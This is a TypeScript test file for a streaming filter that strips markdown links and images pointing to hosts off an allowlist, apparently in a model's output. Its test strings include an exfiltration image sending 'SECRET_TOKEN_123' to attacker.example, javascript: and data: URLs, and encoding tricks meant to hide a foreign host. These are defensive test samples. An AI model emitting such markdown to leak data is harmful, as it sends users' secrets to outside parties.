import { describe, expect, it } from 'vitest';
import { StreamingLinkFilter, type LinkPolicy } from '../../../src/detect/output/markdown-links.js';
import { HostAllowlist } from '../../../src/detect/output/url-policy.js';
import { randomSplits } from './xss-corpus.js';

const policy = (scope: LinkPolicy['scope'] = 'all'): LinkPolicy => ({
  hosts: new HostAllowlist(['docs.example.com', 'cdn.example.org']),
  scope,
});

const run = (
  pieces: readonly string[],
  scope: LinkPolicy['scope'] = 'all',
): { out: string; removed: number } => {
  let removed = 0;
  const filter = new StreamingLinkFilter(policy(scope), () => removed++);
  const out = pieces.map((piece) => filter.push(piece)).join('') + filter.end();
  return { out, removed };
};

const everySplit = (text: string): string[][] => {
  const splits: string[][] = [[text], [...text]];
  for (let seed = 1; seed <= 30; seed++) splits.push(randomSplits(text, seed, 1 + (seed % 7)));
  return splits;
};

describe('markdown link filter', () => {
  it('removes an exfiltration image however the stream splits it', () => {
    const text = 'Summary done. ![loading](https://attacker.example/log?d=SECRET_TOKEN_123) Bye.';
    for (const pieces of everySplit(text)) {
      const { out, removed } = run(pieces);
      expect(out).toBe('Summary done. loading Bye.');
      expect(removed).toBe(1);
    }
  });

  it('keeps images and links to allowlisted hosts and subdomains', () => {
    const text =
      'See [docs](https://docs.example.com/a_(b)) and ![d](https://img.cdn.example.org/x.png "t").';
    for (const pieces of everySplit(text)) expect(run(pieces).out).toBe(text);
  });

  it('turns foreign links into their text, and keeps relative links', () => {
    const text = 'Go [here](https://evil.example/x) or [home](/home) or [mail](mailto:a@b.c).';
    expect(run([text]).out).toBe('Go here or [home](/home) or [mail](mailto:a@b.c).');
  });

  it('with scope images, keeps foreign links but not foreign images', () => {
    const text = '[a](https://evil.example/) ![b](https://evil.example/i.png)';
    expect(run([text], 'images').out).toBe('[a](https://evil.example/) b');
  });

  it('filters images nested in a kept link label', () => {
    const text = '[![img](https://evil.example/p.png)](https://docs.example.com/)';
    expect(run([text]).out).toBe('[img](https://docs.example.com/)');
  });

  it('refuses javascript:, data: and protocol-relative destinations', () => {
    for (const url of [
      'javascript:alert(1)',
      'JaVa\tScRiPt:alert(1)',
      'data:image/png;base64,AAAA',
      '//evil.example/x',
    ])
      expect(run([`[x](${url})`]).out).toBe('x');
  });

  it('drops reference definitions that point off the allowlist', () => {
    const text = '![logo][l]\n[l]: https://evil.example/p.png?q=1\n[ok]: https://docs.example.com/\nend';
    for (const pieces of everySplit(text))
      expect(run(pieces).out).toBe('![logo][l]\n\n[ok]: https://docs.example.com/\nend');
  });

  it('an image split as "!" then "[...](...)" across deltas is still caught in images scope', () => {
    expect(run(['look !', '[x](https://evil.example/a.png)'], 'images').out).toBe('look x');
  });

  it('releases brackets that are not links, without holding them forever', () => {
    const filter = new StreamingLinkFilter(policy());
    expect(filter.push('array[0] = 1; ')).toBe('array[0] = 1; ');
    expect(filter.push('[draft')).toBe('');
    expect(filter.push(' note]\n\n')).toBe('[draft note]\n\n');
  });
});

describe('markdown link filter: destinations as a renderer reads them (review findings)', () => {
  it.each([
    ['an entity-encoded colon', '![x](https&colon;//evil.example/p.png?q=S)'],
    [
      'an entity-encoded slash before an allowed suffix',
      '![x](https://evil.example&sol;.docs.example.com/p.png)',
    ],
    ['a backslash before @', '![x](https://docs.example.com\\@evil.example/p.png)'],
  ])('removes an image hidden behind %s', (_name, text) => {
    expect(run([text]).out).toBe('x');
  });

  it('drops indented, quoted and listed reference definitions, and one on the last line', () => {
    for (const text of [
      '![c][r]\n   [r]: https://evil.example/p.png\n',
      '![c][r]\n> [r]: https://evil.example/p.png\n',
      '![c][r]\n- [r]: https://evil.example/p.png\n',
      'Here: ![chart][1]\n\n[1]: https://evil.example/p.png?q=S',
    ]) {
      for (const pieces of everySplit(text)) expect(run(pieces).out).not.toContain('evil.example');
    }
  });

  it('a code span in a label does not end it early', () => {
    expect(run(['![`](x)`](https://evil.example/p.png)']).out).not.toContain('evil.example');
  });
});
